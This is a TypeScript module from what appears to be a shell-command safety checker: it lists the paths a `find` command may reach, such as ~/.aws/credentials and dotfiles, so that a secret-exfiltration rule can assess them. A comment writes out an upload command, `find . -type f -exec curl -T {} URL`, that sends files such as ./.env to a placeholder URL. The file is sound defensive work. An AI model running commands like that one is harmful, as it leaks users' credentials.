/**
 * The paths `find ROOT… [tests]` may print or hand its -exec block, as shell text to put in
 * their place: each start directory itself, its entries (`ROOT/*`) and theirs (`ROOT/* /*`), and
 * in a home directory its dotfiles too (`~/.*`, `~/.* /*`: ~/.bashrc, ~/.aws/credentials). One
 * `-name PATTERN` test narrows them to that name. Elsewhere a directory's dotfiles are tried only
 * for a secret sent (`find . -type f -exec curl -T {} URL ;` sends ./.env), and so is the home
 * directory under a start point above it (`find / -name credentials`).
 */

import type { Facts, Word } from "../../facts/types.js";
import type { Quiet } from "./types.js";
import { globText } from "./strings.js";
import { inertText } from "./inert.js";

export interface FoundPath {
  text: string;
  /** Only a secret sent over the network is judged on it (a guess a read, write or delete would be wrong about). */
  secretsOnly: boolean;
}

const HOME_ROOT = /^(?:~[\w.-]*|"?\$\{?HOME\}?"?|\/home\/[^/]+|\/Users\/[^/]+|\/root)\/?$/;
const FIND_OPTIONS = /^-(?:[HLP]|O\d*|D)$/;
/** Start points above the home directories. */
const HOLDS_HOME = /^\/(?:home|Users)?$/;
const NEGATIONS: ReadonlySet<string> = new Set(["!", "-not"]);

/** What a parse with a found path written in does not report besides `quiet`: with secretsOnly, all but a secret sent. */
export function foundQuiet(quiet: Quiet, path: FoundPath): Quiet {
  return path.secretsOnly ? (id) => quiet(id) || id !== "secret/exfiltration" : quiet;
}

/** The paths `find` (its words, `find` first) may print, as shell text. */
export function foundPaths(words: readonly Word[], facts: Facts): FoundPath[] {
  let k = 1;
  while (k < words.length && FIND_OPTIONS.test((words[k] as Word).value)) k += (words[k] as Word).value === "-D" ? 2 : 1;
  const roots: string[] = [];
  for (; k < words.length && !/^[-(!]/.test((words[k] as Word).value); k++) roots.push(inertText(facts, (words[k] as Word).start, (words[k] as Word).end));
  if (roots.length === 0) roots.push(".");
  const values = words.map((w) => w.value);
  const tests = values.filter((v) => v === "-name" || v === "-iname" || v === "-o" || v === "-or");
  const at = values.indexOf("-name");
  // `! -name '*.pub'`, `-iname ID_RSA`: not one name; every entry is tried.
  const named = tests.length === 1 && at > 0 && !NEGATIONS.has(values[at - 1] as string) ? values[at + 1] : undefined;
  const base = named === undefined ? "*" : globText(named);
  const out: FoundPath[] = [];
  for (const raw of roots) {
    // `~/.`, `~/.ssh/./` are the directory itself.
    const root = raw.replace(/(?:\/\.)+\/*$/, "").replace(/(.)\/+$/, "$1") || "/";
    const dir = root === "/" ? "" : root;
    const home = HOME_ROOT.test(root);
    // `~/proj/..` is home unless proj is a link elsewhere: its files are tried for a secret sent.
    const up = withoutParentSteps(root);
    if (up !== root && HOME_ROOT.test(up)) out.push({ text: `${up}/${base}`, secretsOnly: true }, { text: `${up}/.*/${base}`, secretsOnly: true });
    if (named === undefined) out.push({ text: root, secretsOnly: false });
    out.push({ text: `${dir}/${base}`, secretsOnly: false }, { text: `${dir}/*/${base}`, secretsOnly: false });
    if (home) out.push({ text: `${dir}/.*/${base}`, secretsOnly: false });
    if (named === undefined) out.push({ text: `${dir}/.*`, secretsOnly: !home });
    // `find / -name credentials`, `find /home …`: the user's home is among what it walks.
    if (HOLDS_HOME.test(root)) out.push({ text: `~/${base}`, secretsOnly: true }, { text: `~/.*/${base}`, secretsOnly: true });
  }
  return out;
}

/** `a/b/..` → `a`, step by step (a segment that is `..`, or holds a run-time part or a glob, stays). */
function withoutParentSteps(path: string): string {
  let p = path;
  for (let prev = ""; prev !== p;) {
    prev = p;
    p = p.replace(/\/(?!\.\.(?:\/|$))[^/$*?[\]`]+\/\.\.(?=\/|$)/, "");
  }
  return p;
}
